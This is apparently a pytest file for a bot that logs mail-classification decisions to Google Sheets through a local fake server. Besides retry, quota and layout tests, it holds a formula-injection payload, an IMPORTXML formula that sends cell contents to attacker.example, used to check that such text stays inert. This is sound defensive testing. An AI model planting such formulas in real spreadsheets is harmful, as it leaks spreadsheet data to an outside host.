"""The Sheets audit sink: real gspread against the local Sheets fake."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gspread
import pytest
from google.oauth2.credentials import Credentials
from gspread.utils import ValueInputOption

from bot.adapters.sheets import LocalRedirect, SheetLayoutError, SheetsAuditSink, redirecting
from bot.config import SheetsConfig
from bot.models import AUDIT_FIELDS, AUDIT_FIELDS_V1
from bot.ports import SinkUnavailable
from tests.contract.fake_sheets import FakeSheets
from tests.httpfake import FakeServer, Response

HEADER = list(AUDIT_FIELDS)
MID = HEADER.index("message_id")
SUBJ = HEADER.index("subject")
EVIL = '=IMPORTXML("http://attacker.example/?"&A2,"//a")'


def row(n: int, **fields: Any) -> dict[str, Any]:
    base: dict[str, Any] = {f: "" for f in AUDIT_FIELDS}
    base.update(processed_at=f"2026-03-0{n % 9 + 1}T10:00:00+00:00", message_id=f"<m{n}@mail.example>",
                provider_id=f"p{n}", subject=f"Quote request {n}", category="lead", confidence=0.91)
    base.update(fields)
    return base


class Env:
    def __init__(self, srv: FakeServer) -> None:
        self.srv = srv
        self.fake = FakeSheets(srv)
        self.sleeps: list[float] = []
        self.cfg = SheetsConfig(enabled=True, spreadsheet_key="sheet-key", worksheet="Decisions",
                                credentials_file=None, base_url=srv.url, timeout_seconds=5)
        self.sink = self.new_sink()

    def new_sink(self) -> SheetsAuditSink:
        """A fresh sink, as after a restart of the process."""
        return SheetsAuditSink(self.cfg, Credentials(token="fake-token"), sleep=self.sleeps.append)

    def appends(self) -> list[Any]:
        return self.srv.requests(r":append$", "POST")

    def message_ids(self) -> list[str]:
        return [r[MID] for r in self.fake.values("Decisions")[1:]]


@pytest.fixture()
def env() -> Iterator[Env]:
    with FakeServer() as srv:
        yield Env(srv)


def test_missing_tab_is_created_with_a_frozen_bold_header(env: Env) -> None:
    env.sink.write([row(1)], retry=False)
    sheet = env.fake.sheet("Decisions")
    assert sheet.rows[0] == HEADER
    assert sheet.frozen_rows == 1
    assert sheet.bold_rows == {0}
    assert [next(iter(r)) for r in env.fake.batch_requests] == ["addSheet", "repeatCell", "updateSheetProperties"]
    assert env.fake.value_input_options == ["RAW", "RAW"]  # header, then the row
    assert env.message_ids() == ["<m1@mail.example>"]


def test_existing_tab_keeps_rows_and_the_human_column_to_the_right(env: Env) -> None:
    old = [row(0)[f] for f in AUDIT_FIELDS]
    env.fake.add_sheet("Decisions", [[*HEADER, "notes"], [*map(str, old), "called back on Monday"]])
    env.sink.write([row(1), row(2)], retry=False)
    values = env.fake.values("Decisions")
    assert values[0] == [*HEADER, "notes"]
    assert values[1][len(HEADER)] == "called back on Monday"
    assert values[1][MID] == "<m0@mail.example>"
    assert [v[MID] for v in values[2:]] == ["<m1@mail.example>", "<m2@mail.example>"]
    assert all(len(v) == len(HEADER) for v in values[2:])  # nothing written into the human column
    assert env.fake.batch_requests == []  # no header rewrite, no reformatting
    assert env.srv.requests(r"/values/", "PUT") == []


def test_rows_of_one_call_go_out_in_one_append_request(env: Env) -> None:
    env.fake.add_sheet("Decisions", [HEADER])
    env.sink.write([row(i) for i in range(25)], retry=False)
    env.sink.write([row(i) for i in range(25, 30)], retry=False)
    assert len(env.appends()) == 2
    assert env.fake.write_count == 2
    assert env.message_ids() == [f"<m{i}@mail.example>" for i in range(30)]


def test_formula_looking_text_stays_text(env: Env) -> None:
    env.fake.add_sheet("Decisions", [HEADER])
    env.sink.write([row(1, subject=EVIL, from_name="+49 30 1234", summary="@SUM(A1:A3)")], retry=False)
    sheet = env.fake.sheet("Decisions")
    assert sheet.cell(1, SUBJ) == "'" + EVIL
    assert sheet.cell(1, HEADER.index("from_name")) == "'+49 30 1234"
    assert sheet.formulas == set()
    assert env.appends()[0].arg("valueInputOption") == "RAW"
    assert env.fake.value_input_options == ["RAW"]


def test_the_fake_would_show_a_formula_written_as_user_entered(env: Env) -> None:
    """Guards the test above: the fake does tell a formula from text."""
    env.fake.add_sheet("Decisions", [HEADER])
    gc = gspread.authorize(Credentials(token="t"), http_client=redirecting(gspread.HTTPClient, env.srv.url))
    ws = gc.open_by_key("sheet-key").worksheet("Decisions")
    ws.append_rows([[EVIL]], value_input_option=ValueInputOption.user_entered)
    assert env.fake.sheet("Decisions").formulas == {(1, 0)}


def test_retry_after_a_landed_append_writes_only_the_missing_rows(env: Env) -> None:
    env.sink.write([row(1), row(2)], retry=False)
    restarted = env.new_sink()
    restarted.write([row(1), row(2), row(3)], retry=True)
    restarted.write([row(1), row(2), row(3)], retry=True)  # all there: no append at all
    assert env.message_ids() == ["<m1@mail.example>", "<m2@mail.example>", "<m3@mail.example>"]
    assert len(env.appends()) == 2
    assert len(env.srv.requests(r"E1%3AE$", "GET")) == 2  # one provider_id column read per retried call


def test_a_retry_tells_two_mails_with_one_message_id_apart(env: Env) -> None:
    """Identity is the mailbox's id: the row of a second mail that reuses a Message-ID is still written, once."""
    env.sink.write([row(1)], retry=False)
    env.new_sink().write([row(1), row(1, provider_id="p2")], retry=True)
    env.new_sink().write([row(1, provider_id="p2")], retry=True)
    assert env.message_ids() == ["<m1@mail.example>", "<m1@mail.example>"]


def test_a_lost_response_is_retried_without_duplicating(env: Env) -> None:
    env.fake.add_sheet("Decisions", [HEADER])
    env.fake.lost_append_responses = 1
    env.sink.write([row(1), row(2)], retry=False)
    assert env.message_ids() == ["<m1@mail.example>", "<m2@mail.example>"]
    assert len(env.appends()) == 1  # the second attempt found both rows and did not append
    assert len(env.sleeps) == 1


def test_429_waits_for_retry_after_and_does_not_reread(env: Env) -> None:
    env.fake.add_sheet("Decisions", [HEADER])
    env.srv.fail(r":append$", Response(429, {"error": {"code": 429, "message": "Quota exceeded",
                                                      "status": "RESOURCE_EXHAUSTED"}}, {"Retry-After": "7"}))
    env.sink.write([row(1)], retry=False)
    assert len(env.sleeps) == 1 and 7 <= env.sleeps[0] <= 7.7
    assert env.message_ids() == ["<m1@mail.example>"]
    assert env.srv.requests(r"E1%3AE$") == []  # a 429 is refused before writing: no need to look


def test_outage_raises_sink_unavailable_after_the_retries(env: Env) -> None:
    env.fake.add_sheet("Decisions", [HEADER])
    env.srv.fail(r"/v4/spreadsheets", Response(503, {"error": {"code": 503, "message": "unavailable"}}), times=50)
    with pytest.raises(SinkUnavailable, match="503"):
        env.sink.write([row(1)], retry=False)
    assert len(env.sleeps) == 4  # five attempts in all
    assert env.message_ids() == []
    env.srv.faults.clear()
    env.sink.write([row(1)], retry=True)  # the outbox replays once the service is back
    assert env.message_ids() == ["<m1@mail.example>"]


def test_unknown_spreadsheet_is_reported_as_unavailable_without_retrying(env: Env) -> None:
    env.cfg = SheetsConfig(**{**env.cfg.__dict__, "spreadsheet_key": "wrong"})
    with pytest.raises(SinkUnavailable, match="spreadsheet_key"):
        env.new_sink().write([row(1)], retry=False)
    assert env.sleeps == []


def test_a_foreign_header_is_never_written_under(env: Env) -> None:
    env.fake.add_sheet("Decisions", [["Date", "Who", "What"], ["1", "2", "3"]])
    with pytest.raises(SheetLayoutError, match="column 1 should be 'processed_at'"):
        env.sink.write([row(1)], retry=False)
    assert env.fake.values("Decisions") == [["Date", "Who", "What"], ["1", "2", "3"]]
    assert env.fake.write_count == 0


def test_read_corrections(env: Env) -> None:
    cells = [[str(row(i, correction=c)[f]) for f in AUDIT_FIELDS] for i, c in enumerate(["", " Support ", "", "spam"])]
    cells[3][MID] = "'-odd-id@mail.example"  # as sheet_cell stores an id that looks like a formula
    env.fake.add_sheet("Decisions", [[*HEADER, "notes"], *cells])
    assert env.sink.read_corrections() == [("<m1@mail.example>", "support"), ("-odd-id@mail.example", "spam")]


def test_redirect_class_follows_the_configured_base_url() -> None:
    assert redirecting(gspread.HTTPClient, "https://sheets.googleapis.com/") is gspread.HTTPClient
    cls = redirecting(gspread.HTTPClient, "https://sheets-proxy.internal.example/")
    assert issubclass(cls, LocalRedirect) and issubclass(cls, gspread.HTTPClient)
    assert cls.base_url == "https://sheets-proxy.internal.example"


def test_per_minute_write_quota_is_waited_out(env: Env) -> None:
    now = [59.5]  # just before the next quota minute; the first backoff is at least 0.5 s

    def sleep(seconds: float) -> None:
        env.sleeps.append(seconds)
        now[0] += seconds

    env.fake.clock = lambda: now[0]
    env.fake.write_quota = 1
    env.fake.add_sheet("Decisions", [HEADER])
    sink = SheetsAuditSink(env.cfg, Credentials(token="fake-token"), sleep=sleep)
    sink.write([row(1)], retry=False)
    sink.write([row(2)], retry=False)  # refused with 429 until the minute turns
    assert env.message_ids() == ["<m1@mail.example>", "<m2@mail.example>"]
    assert len(env.sleeps) == 1
    assert dict(env.fake.writes_per_minute) == {0: 1, 1: 1}


# ---------------------------------------------------------------- rows filled in later (bot.followup)

V1 = list(AUDIT_FIELDS_V1)
LATER = HEADER[len(V1):]


def test_update_fills_in_the_row_of_the_message_and_nothing_else(env: Env) -> None:
    env.fake.add_sheet("Decisions", [[*HEADER, "notes"]])
    env.sink.write([row(1), row(2), row(3)], retry=False)
    sheet = env.fake.sheet("Decisions")
    sheet.put(2, HEADER.index("summary"), "a person's note in our column", formula=False)
    sheet.put(2, len(HEADER), "called back", formula=False)
    env.srv.log.clear()
    missing = env.sink.update([{"provider_id": "p2", "message_id": "<m2@mail.example>",
                                "answered_by": "alice@acme-pumps.example", "followup": "=HYPERLINK(\"http://x\")"},
                               {"provider_id": "p-gone", "message_id": "<gone@mail.example>", "answered_by": "x"}])
    assert missing == {"p-gone"}
    values = env.fake.values("Decisions")
    assert values[2][HEADER.index("answered_by")] == "alice@acme-pumps.example"
    assert values[2][HEADER.index("followup")] == "'=HYPERLINK(\"http://x\")" and sheet.formulas == set()
    assert values[2][HEADER.index("summary")] == "a person's note in our column"
    assert values[2][len(HEADER)] == "called back"
    assert values[1][HEADER.index("answered_by")] == values[3][HEADER.index("answered_by")] == ""
    assert len(env.srv.requests(r"/values/", "GET")) == 1  # the provider_id column
    assert len(env.srv.requests(r"values:batchUpdate$", "POST")) == 1  # every cell in one write


def test_a_tab_of_the_first_layout_gets_the_later_columns_after_the_columns_people_added(env: Env) -> None:
    old = [row(0)[f] for f in V1]
    env.fake.add_sheet("Decisions", [[*V1, "notes"], [*map(str, old), "called back on Monday"]])
    env.sink.write([row(1, answered_by="bob@acme-pumps.example")], retry=False)
    values = env.fake.values("Decisions")
    assert values[0] == [*V1, "notes", *LATER]
    assert values[1][len(V1)] == "called back on Monday"
    assert values[2][MID] == "<m1@mail.example>" and values[2][len(V1)] == ""  # nothing under "notes"
    assert values[2][len(V1) + 1 + LATER.index("answered_by")] == "bob@acme-pumps.example"
    env.sink.update([{"provider_id": "p0", "message_id": "<m0@mail.example>",
                      "answered_at": "2026-03-02T11:00:00+00:00"}])
    assert env.fake.values("Decisions")[1][len(V1) + 1] == "2026-03-02T11:00:00+00:00"
    assert env.fake.values("Decisions")[1][len(V1)] == "called back on Monday"


def test_an_update_during_an_outage_stays_queued_and_lands_when_the_sheet_is_back(env: Env, tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from bot.pipeline import Pipeline, Services
    from bot.state import Ledger
    from tests.fake_mail import FakeMailProvider
    from tests.fakes import Clock, KeywordClassifier, make_config, raw_mail

    cfg = make_config(tmp_path)
    mail = FakeMailProvider(processed_label=cfg.labels.processed)
    ledger = Ledger(cfg.state_dir / "ledger.sqlite3")
    clock = Clock(datetime(2026, 11, 23, 9, tzinfo=UTC))
    pipeline = Pipeline(Services(cfg=cfg, mail=mail, classifier=KeywordClassifier(), ledger=ledger,
                                 audit_sinks=[env.sink], clock=clock))
    lead = mail.add(raw_mail("Quote [lead:en:0.95]"))
    pipeline.run_cycle()
    [written] = env.fake.values("Decisions")[1:]
    msgid = written[MID]
    mail.add(raw_mail("Re: Quote", sender="Alice <alice@acme-pumps.example>", date="Mon, 23 Nov 2026 10:00:00 +0000",
                      extra=f"In-Reply-To: {msgid}\r\nReferences: {msgid}\r\n"), labels=("SENT",))
    env.srv.fail(r"/v4/spreadsheets", Response(503, {"error": {"code": 503, "message": "unavailable"}}), times=50)
    clock.now = datetime(2026, 11, 23, 10, 5, tzinfo=UTC)
    pipeline.run_cycle()
    assert ledger.outbox_backlog() == {"update:sheets": 1}
    assert env.fake.values("Decisions")[1][HEADER.index("answered_by")] == ""
    env.srv.faults.clear()
    pipeline.run_cycle()
    assert ledger.outbox_backlog() == {}
    line = env.fake.values("Decisions")[1]
    assert (line[HEADER.index("answered_by")], line[HEADER.index("response_hours")]) == (
        "alice@acme-pumps.example", "1.00")
    assert len(env.fake.values("Decisions")) == 2 and ledger.get(lead) is not None
